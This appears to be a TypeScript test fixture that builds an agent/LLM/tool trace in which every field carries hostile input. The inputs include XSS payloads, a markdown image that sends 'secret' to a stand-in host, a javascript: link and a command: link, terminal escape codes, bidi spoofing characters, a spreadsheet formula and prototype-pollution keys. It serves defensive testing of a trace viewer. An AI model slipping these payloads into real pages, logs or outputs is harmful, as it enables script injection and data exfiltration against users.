// A turn whose every text tries to get out of its place: markup, scripts, links, terminal and bidi controls, spreadsheet formulas.

const TEXTS = [
  '<img src=x onerror="globalThis.hacked=true">',
  '<script>globalThis.hacked=true</script>',
  '![x](https://evil.test/?q=secret) [run](command:workbench.action.terminal.new) [js](javascript:globalThis.hacked=true)',
  '\u001b]8;;https://evil.test\u0007click\u001b]8;;\u0007 \u001b[2J',
  '\u202Egnp.exe\u202C \u2066hidden\u2069 \u200b\u200d',
  '=HYPERLINK("https://evil.test","x")',
  '"><svg onload=globalThis.hacked=true><iframe src=https://evil.test></iframe>',
  `${'{'.repeat(200)}`,
  '__proto__',
];

const attribute = (key: string, value: string) => ({ key, value: { stringValue: value } });

/** One trace of an agent, a model call and a tool, all hostile. */
export function hostileRequest(): string {
  const all = TEXTS.join('\n');
  const now = BigInt(Date.now()) * 1_000_000n;
  const span = (id: number, parent: number | null, kind: string, name: string) => ({
    traceId: 'bad'.padEnd(32, '0'),
    spanId: id.toString(16).padStart(16, '0'),
    ...(parent === null ? {} : { parentSpanId: parent.toString(16).padStart(16, '0') }),
    name,
    kind: 1,
    startTimeUnixNano: `${now}`,
    endTimeUnixNano: `${now + 5_000_000n}`,
    status: { code: 2, message: all },
    events: [
      { name: TEXTS[0], timeUnixNano: `${now}`, attributes: [attribute('exception.message', all), attribute(TEXTS[1] as string, all)] },
    ],
    attributes: [
      attribute('openinference.span.kind', kind),
      attribute('session.id', '<b>hostile</b>'),
      attribute('user.id', TEXTS[4] as string),
      attribute('input.value', all),
      attribute('output.value', all),
      attribute('tool.name', TEXTS[0] as string),
      attribute('llm.model_name', TEXTS[6] as string),
      attribute('llm.input_messages.0.message.role', 'user'),
      attribute('llm.input_messages.0.message.content', all),
      attribute('llm.output_messages.0.message.role', TEXTS[0] as string),
      attribute('llm.output_messages.0.message.contents.0.message_content.type', 'image'),
      attribute('llm.output_messages.0.message.contents.0.message_content.image.image.url', 'https://evil.test/pixel.png'),
      attribute('retrieval.documents.0.document.content', all),
      attribute('__proto__', all),
      ...TEXTS.map((text, index) => attribute(text, `${index} ${text}`)),
    ],
  });
  return JSON.stringify({
    resourceSpans: [
      {
        resource: { attributes: [attribute('service.name', TEXTS[0] as string)] },
        scopeSpans: [
          {
            scope: { name: TEXTS[1] },
            spans: [
              span(1, null, 'AGENT', TEXTS[0] as string),
              span(2, 1, 'LLM', TEXTS[2] as string),
              span(3, 1, 'TOOL', TEXTS[4] as string),
            ],
          },
        ],
      },
    ],
  });
}
